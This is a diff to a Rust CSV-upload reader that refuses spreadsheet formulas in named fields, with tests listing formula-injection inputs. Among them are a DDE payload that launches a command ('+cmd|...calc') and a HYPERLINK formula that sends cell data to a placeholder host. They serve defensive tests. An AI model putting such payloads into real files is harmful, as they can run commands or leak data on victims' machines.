@@ -1,4 +1,4 @@
-//! Uploaded CSV tables, read at the border.
+//! Uploaded tables, read at the border: CSV, and workbooks that [`workbook`] turns into it.
 //!
 //! Knows bytes, headers, rows and cells. Deliberately does not know what a column means: an importer
 //! names its [`Column`]s and turns each [`Row`] into its own types, reporting what it cannot take as
@@ -15,6 +15,7 @@ pub use headers::{Column, UnknownHeader};
 mod errors;
 mod headers;
 mod records;
+pub mod workbook;
 
 /// How much a table may hold.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -166,16 +167,13 @@ pub fn read_table<'a>(
             let limit = limits.rows;
             return Err(TableError::TooManyRows { row, limit });
         }
-        if cells.len() == header.len() {
-            let known = table.fields.iter().zip(cells);
-            table.rows.push(Row {
-                number: row,
-                cells: known
-                    .filter_map(|(field, cell)| Some(((*field)?, cell)))
-                    .filter(|(_, cell)| !cell.trim().is_empty())
-                    .collect(),
-            });
-        } else {
+        // No field takes it: a spreadsheet would show something else than stands here.
+        let formula = table
+            .fields
+            .iter()
+            .zip(&cells)
+            .find_map(|(field, cell)| field.filter(|_| cell.trim_start().starts_with('=')));
+        if cells.len() != header.len() {
             table.row_errors.push(RowError {
                 row,
                 field: None,
@@ -183,6 +181,21 @@ pub fn read_table<'a>(
                     expected: header.len(),
                     found: cells.len(),
                 },
+            });
+        } else if let Some(field) = formula {
+            table.row_errors.push(RowError {
+                row,
+                field: Some(field),
+                problem: RowProblem::Formula,
+            });
+        } else {
+            let known = table.fields.iter().zip(cells);
+            table.rows.push(Row {
+                number: row,
+                cells: known
+                    .filter_map(|(field, cell)| Some(((*field)?, cell)))
+                    .filter(|(_, cell)| !cell.trim().is_empty())
+                    .collect(),
             });
         }
     }
@@ -346,15 +359,11 @@ mod tests {
     #[test]
     fn a_formula_is_refused_where_text_is_asked_for_and_only_there() {
         for formula in [
-            "\"=HYPERLINK(\"\"http://x?\"\"&A1)\"",
             "+cmd|' /C calc'!A0",
             "@SUM(1)",
             "-2+3",
-            "  =1+1",
-            "\u{a0}=1+1",
             "\tx",
             "\"\rx\"",
-            "\"\n=1\"",
             "＝1+1",
             "＋1",
             "－1",
@@ -369,6 +378,27 @@ mod tests {
             assert!(row.get("phone").is_some(), "{formula:?}");
         }
         assert_eq!(row_of("1;A;+49 711 1").get("phone"), Some("+49 711 1"));
+    }
+
+    #[test]
+    fn what_a_spreadsheet_would_compute_is_refused_in_every_field_and_left_out_beside_them() {
+        for formula in [
+            "\"=HYPERLINK(\"\"http://x?\"\"&A1)\"",
+            "=1",
+            "  =1+1",
+            "\u{a0}=1+1",
+            "\"\n=1\"",
+        ] {
+            let table =
+                table(format!("ags;name;phone;note\n1;A;{formula};x\n2;B;;{formula}").leak());
+            let refused = RowError {
+                row: 2,
+                field: Some("phone"),
+                problem: RowProblem::Formula,
+            };
+            assert_eq!(table.row_errors, [refused], "{formula:?}");
+            assert_eq!(table.rows.len(), 1, "{formula:?}");
+        }
     }
 
     #[test]
